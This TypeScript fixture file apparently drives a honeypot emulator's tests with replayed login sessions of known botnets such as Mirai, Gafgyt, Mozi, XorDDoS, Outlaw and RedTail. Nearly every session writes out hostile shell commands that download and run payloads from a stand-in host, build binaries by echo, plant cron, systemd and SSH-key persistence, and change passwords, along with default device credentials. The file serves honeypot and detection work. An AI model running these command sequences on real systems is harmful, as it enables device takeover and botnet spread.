// The conversations of well-known bots, step by step as they are in published logs and source code; addresses and payloads are replaced.
import { type Conversation, escaped, type Turn, tinyElf } from './conversation.ts';

const ARM = tinyElf(40, true);
const MIPS = tinyElf(8, false, 100);
const X86 = tinyElf(3, true, 40);
const HOST = '198.51.100.77';

/** Mirai's loader: every step ends with a token whose answer is awaited. */
const token = (name: string): RegExp => new RegExp(`${name}: applet not found`);
const hunt = (names: readonly string[], name: string): Turn[] =>
  names.map(
    (folder): Turn => [
      `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69${folder.replace(/./g, (c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`)}' > ${folder}/.nippon; /bin/busybox cat ${folder}/.nippon; /bin/busybox rm ${folder}/.nippon; /bin/busybox ${name}`,
      new RegExp(`kami${folder}\\r?\\n[\\s\\S]*${name}: applet not found`),
    ],
  );
const opening: Turn[] = [
  ['enable', /\S/],
  ['system', /\S/],
  ['shell', /\S/],
  ['sh', /\S/],
];

export const conversations: readonly Conversation[] = [
  {
    name: 'Mirai by echo on ARM: fingerprint, writable directory, architecture, dropper piece by piece, run',
    persona: 'iot-busybox-arm',
    protocol: 'telnet',
    user: 'root',
    password: 'xc3511',
    turns: [
      ...opening,
      ['/bin/busybox ECCHI', token('ECCHI')],
      ['/bin/busybox ps; /bin/busybox ECCHI', /\bSofia\b[\s\S]*ECCHI: applet not found/],
      [
        '/bin/busybox cat /proc/mounts; /bin/busybox ECCHI',
        /\/dev\/root \/ \w+ ro,[\s\S]* \/tmp tmpfs rw[\s\S]*ECCHI: applet not found/,
      ],
      ...hunt(['/tmp', '/var', '/dev/shm'], 'ECCHI'),
      [
        'cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
        token('ECCHI'),
      ],
      [
        '/bin/busybox cat /bin/echo; /bin/busybox ECCHI',
        /\x7fELF\x01\x01\x01[\s\S]{9}\x02\x00\x28\x00[\s\S]*ECCHI: applet not found/,
      ],
      [
        '/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI',
        /wget \[[\s\S]*tftp \[[\s\S]*ECCHI: applet not found/,
      ],
      ...escaped(ARM, 48).map(
        (piece, i): Turn => [
          `echo -ne '${piece}' ${i === 0 ? '>' : '>>'} dvrHelper; /bin/busybox ECCHI`,
          token('ECCHI'),
        ],
      ),
      ['./dvrHelper telnet.arm; /bin/busybox IHCCE', token('IHCCE')],
      ['/bin/busybox rm -rf dvrHelper; /bin/busybox ECCHI', token('ECCHI')],
    ],
    stage: 'execution',
    payloads: [ARM],
    started: [['/tmp/dvrHelper', 'started']],
  },
  {
    name: 'Mirai by wget on MIPS, with dd of a header for the architecture',
    persona: 'iot-busybox-mips',
    protocol: 'telnet',
    user: 'admin',
    password: 'admin',
    turns: [
      ...opening,
      ['/bin/busybox SATORI', token('SATORI')],
      ...hunt(['/var', '/tmp'], 'SATORI'),
      [
        '/bin/busybox dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox SATORI',
        /\x7fELF\x01\x02\x01[\s\S]{9}\x00\x02\x00\x08[\s\S]*SATORI: applet not found/,
      ],
      ['/bin/busybox wget; /bin/busybox tftp; /bin/busybox SATORI', token('SATORI')],
      [
        `cd /var; /bin/busybox wget http://${HOST}:80/bins/satori.mips -O - > nvd; /bin/busybox chmod 777 nvd; /bin/busybox SATORI`,
        token('SATORI'),
      ],
      ['./nvd wget.mips; /bin/busybox FIN', token('FIN')],
    ],
    stage: 'download',
    urls: [`http://${HOST}/bins/satori.mips`],
  },
  {
    name: 'Mirai by tftp on ARM',
    persona: 'iot-busybox-arm',
    protocol: 'telnet',
    user: 'root',
    password: 'vizxv',
    turns: [
      ...opening,
      [
        `cd /dev/shm; /bin/busybox tftp -g -l upnp -r mirai.arm7 ${HOST}; /bin/busybox chmod 777 upnp; /bin/busybox OWARI`,
        token('OWARI'),
      ],
    ],
    stage: 'download',
    urls: [`tftp://${HOST}/mirai.arm7`],
  },
  {
    name: 'Fbot/Satori: retrieve beside .t, ECHODONE after each piece',
    persona: 'iot-busybox-mips',
    protocol: 'telnet',
    user: 'root',
    password: '5up',
    turns: [
      ...opening,
      ['linuxshell', /\S/],
      ['>/tmp/t && cd /tmp/ && >retrieve; >.t', /[#$] $/],
      [
        '/bin/busybox cp /bin/busybox retrieve && >retrieve && /bin/busybox chmod 777 retrieve && /bin/busybox cp /bin/busybox .t && >.t && /bin/busybox chmod 777 .t',
        /[#$] $/,
      ],
      [
        '/bin/busybox cat /bin/busybox || while read i; do /bin/busybox echo $i; done < /bin/busybox || /bin/busybox dd if=/bin/busybox bs=22 count=1',
        /\x7fELF\x01\x02/,
      ],
      ['/bin/busybox FBOT', token('FBOT')],
      ...escaped(MIPS, 33).map(
        (piece, i): Turn => [
          `/bin/busybox echo -en '${piece}' ${i === 0 ? '>' : '>>'} retrieve && /bin/busybox echo -en '\\x45\\x43\\x48\\x4f\\x44\\x4f\\x4e\\x45'`,
          /ECHODONE/,
        ],
      ),
      ['./retrieve; ./.t echo', /[#$] $/],
      [`/bin/busybox wget http://${HOST}/fbot.mips -O -> .t; /bin/busybox chmod 777 .t; ./.t wget; >.t`, /[#$] $/],
    ],
    stage: 'execution',
    urls: [`http://${HOST}/fbot.mips`],
    payloads: [MIPS],
    started: [['/tmp/retrieve', 'started']],
  },
  {
    name: 'Gafgyt/Bashlite: one long line of wget, curl, tftp and ftpget',
    persona: 'iot-busybox-arm',
    protocol: 'telnet',
    user: 'root',
    password: 'root1',
    turns: [
      ['sh', /\S/],
      ['shell', /\S/],
      ["/bin/busybox echo -e '\\x67\\x61\\x66\\x67\\x74'", /gafgt/],
      [
        `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://${HOST}/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp ${HOST} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g ${HOST}; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 ${HOST} ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; echo d""one`,
        /done\r?\n/,
      ],
    ],
    stage: 'download',
    urls: [`http://${HOST}/bins.sh`, `tftp://${HOST}/tftp2.sh`, `ftp://anonymous:anonymous@${HOST}/ftp1.sh`],
  },
  {
    name: 'Hajime: its own probe, the stub by echo into .s',
    persona: 'iot-busybox-arm',
    protocol: 'telnet',
    user: 'root',
    password: '5up',
    turns: [
      ['enable', /\S/],
      ['shell', /\S/],
      ['sh', /\S/],
      ['cat /proc/mounts; /bin/busybox PQTXV', /tmpfs[\s\S]*PQTXV: applet not found/],
      ['cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox PQTXV', token('PQTXV')],
      ['tftp; wget; /bin/busybox PQTXV', /(tftp|TFTP)[\s\S]*wget[\s\S]*PQTXV: applet not found/],
      ['dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s', /\x7fELF\x01\x01/],
      ['/bin/busybox PQTXV', token('PQTXV')],
      ['rm .s; exit', /$/],
    ],
    stage: 'discovery',
  },
  {
    name: 'Mozi: a node of the botnet serves the file on a high port',
    persona: 'iot-busybox-mips',
    protocol: 'telnet',
    user: 'root',
    password: 'admin',
    turns: [
      ...opening,
      ['ping; sh', /\S/],
      [
        `cd /tmp; rm -rf Mozi.m; wget http://${HOST}:47213/Mozi.m; chmod 777 Mozi.m; ./Mozi.m; /bin/busybox MOZI`,
        token('MOZI'),
      ],
      ['iptables -I INPUT -p tcp --destination-port 35000 -j DROP; /bin/busybox MOZI', token('MOZI')],
    ],
    stage: 'download',
    urls: [`http://${HOST}:47213/Mozi.m`],
  },
  {
    name: 'A dropper by printf with octal digits',
    persona: 'iot-busybox-arm',
    protocol: 'telnet',
    user: 'guest',
    password: '12345',
    turns: [
      ['cd /var/run || cd /tmp; rm -f x; echo R""EADY', /READY\r?\n/],
      ...escaped(ARM, 40, 'octal').map(
        (piece, i): Turn => [
          `printf '%b' '${piece}' ${i === 0 ? '>' : '>>'} x; echo O""K${i}`,
          new RegExp(`OK${i}\\r?\\n`),
        ],
      ),
      ['chmod +x x; ./x; rm -f x; echo F""IN', /FIN\r?\n/],
    ],
    stage: 'execution',
    payloads: [ARM],
    started: [['/x', 'started']],
  },
  {
    name: 'The wrong architecture is refused as the kernel does',
    persona: 'iot-busybox-mips',
    protocol: 'telnet',
    user: 'root',
    password: '54321',
    turns: [
      ...escaped(X86, 62).map(
        (piece, i): Turn => [
          `echo -ne '${piece}' ${i === 0 ? '>' : '>>'} /tmp/k; echo O""K${i}`,
          new RegExp(`OK${i}\\r?\\n`),
        ],
      ),
      ['chmod 777 /tmp/k; /tmp/k; echo F""IN', /FIN\r?\n/],
    ],
    stage: 'execution',
    payloads: [X86],
    started: [['/tmp/k', 'rejected']],
  },
  {
    name: 'Kaiten/Tsunami: fetch, run in the background, cron',
    persona: 'debian-12-cloud',
    protocol: 'ssh',
    user: 'root',
    password: 'admin123',
    turns: [
      [
        `cd /tmp; wget -q http://${HOST}/ktn.sh -O .x || curl -s -o .x http://${HOST}/ktn.sh; chmod +x .x; nohup ./.x >/dev/null 2>&1 & (crontab -l 2>/dev/null; echo "* * * * * wget -q -O- http://${HOST}/ktn.sh | sh") | crontab -; crontab -l`,
        /\* \* \* \* \* wget -q -O- http:\/\/198\.51\.100\.77\/ktn\.sh \| sh/,
      ],
    ],
    stage: 'persistence',
    urls: [`http://${HOST}/ktn.sh`],
  },
  {
    name: 'XorDDoS: the library-named file, cron.hourly and init.d',
    persona: 'debian-12-cloud',
    protocol: 'ssh',
    user: 'root',
    password: 'wubao',
    turns: [
      [
        `cd /tmp; wget http://${HOST}:8000/g4t2; chmod 777 g4t2; ./g4t2; cp /usr/bin/wget /lib/libudev.so; echo '#!/bin/sh' > /etc/cron.hourly/gcc.sh; echo 'PATH=/bin:/sbin:/usr/bin:/usr/sbin' >> /etc/cron.hourly/gcc.sh; chmod 755 /etc/cron.hourly/gcc.sh; echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >> /etc/crontab; tail -1 /etc/crontab; ls -l /etc/cron.hourly/gcc.sh`,
        /gcc\.sh\r?\n-rwxr-xr-x 1 root root/,
      ],
    ],
    stage: 'persistence',
    urls: [`http://${HOST}:8000/g4t2`],
    payloads: [Buffer.from('#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin\n')],
  },
  {
    name: 'Outlaw (mdrfckr): the key, the password, the look at the hardware',
    persona: 'debian-12-cloud',
    protocol: 'ssh',
    user: 'root',
    password: '3245gs5662d34',
    turns: [
      ['cd ~; chattr -ia .ssh; lockr -ia .ssh', /lockr: command not found/],
      [
        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~; cat .ssh/authorized_keys',
        /mdrfckr/,
      ],
      ['cat /proc/cpuinfo | grep name | wc -l', /^\d+\r?$/m],
      ['echo -e "admin\\nQ1w2E3r4T5\\nQ1w2E3r4T5"|passwd; echo $?', /\d\r?\n/],
      ["free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", /^\d+ \d+ \d+ \d+ \d+ \d+\r?$/m],
      ['ls -lh $(which ls)', /\/bin\/ls/],
      ['crontab -l', /no crontab for root/],
      ['uname -m', /x86_64/],
      ['lscpu | grep Model', /Model name/],
      [
        'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
        /^$/,
      ],
    ],
    stage: 'persistence',
    payloads: [Buffer.from('ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA mdrfckr\n')],
  },
  {
    name: 'RedTail: the script by architecture, with clean.sh and setup.sh',
    persona: 'debian-12-cloud',
    protocol: 'ssh',
    user: 'root',
    password: 'lenovo',
    turns: [
      [
        `cd /tmp; for h in ${HOST}; do (wget --no-check-certificate -qO- https://$h/sh || curl -sk https://$h/sh) | sh -s ssh; done; chmod +x clean.sh; sh clean.sh; rm -rf clean.sh; chmod +x setup.sh; sh setup.sh; rm -rf setup.sh; mkdir -p ~/.ssh; chattr -ia ~/.ssh/authorized_keys; echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ rsa-key-20230629" > ~/.ssh/authorized_keys; chattr +ai ~/.ssh/authorized_keys; uname -a`,
        /Linux \S+ [\s\S]*x86_64/,
      ],
    ],
    stage: 'persistence',
    urls: [`https://${HOST}/sh`],
    payloads: [Buffer.from('ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ rsa-key-20230629\n')],
  },
  {
    name: 'The Raspberry Pi worm of 2017: pi/raspberryraspberry993311 by SSH',
    persona: 'raspberry-pi',
    protocol: 'ssh',
    user: 'pi',
    password: 'raspberryraspberry993311',
    turns: [
      [
        'cd /tmp && printf "#!/bin/bash\\n\\nMYSELF=\\$(realpath \\$0)\\nDEBUG=/dev/null\\n" > TxZkQ3aB && chmod +x TxZkQ3aB && bash -c ./TxZkQ3aB; cat TxZkQ3aB | head -1; uname -m',
        /#!\/bin\/bash\r?\narmv7l/,
      ],
      ['sudo -n id; cat /proc/cpuinfo | grep -c BCM2835', /uid=0\(root\)[\s\S]*1\r?\n/],
    ],
    stage: 'discovery',
    payloads: [Buffer.from('#!/bin/bash\n\nMYSELF=$(realpath $0)\nDEBUG=/dev/null\n')],
  },
  {
    name: 'A miner: hardware, rivals, xmrig in a tarball, a service to keep it',
    persona: 'debian-12-cloud',
    protocol: 'ssh',
    user: 'root',
    password: 'p@ssw0rd',
    turns: [
      [
        'nproc; uname -a; cat /proc/meminfo | head -1; nvidia-smi; ps aux | grep -c xmrig; curl -s ipinfo.io/org --max-time 1',
        /MemTotal/,
      ],
      [
        `cd /dev/shm; pkill -9 xmrig; wget https://${HOST}/xmrig-6.21.0-linux-static-x64.tar.gz; tar -xf xmrig-6.21.0-linux-static-x64.tar.gz; printf '[Unit]\\nDescription=m\\n[Service]\\nExecStart=/dev/shm/xmrig\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/m.service; systemctl daemon-reload; systemctl enable m.service`,
        /Created symlink \/etc\/systemd\/system\/multi-user\.target\.wants\/m\.service/,
      ],
    ],
    stage: 'persistence',
    urls: [`https://${HOST}/xmrig-6.21.0-linux-static-x64.tar.gz`],
  },
];
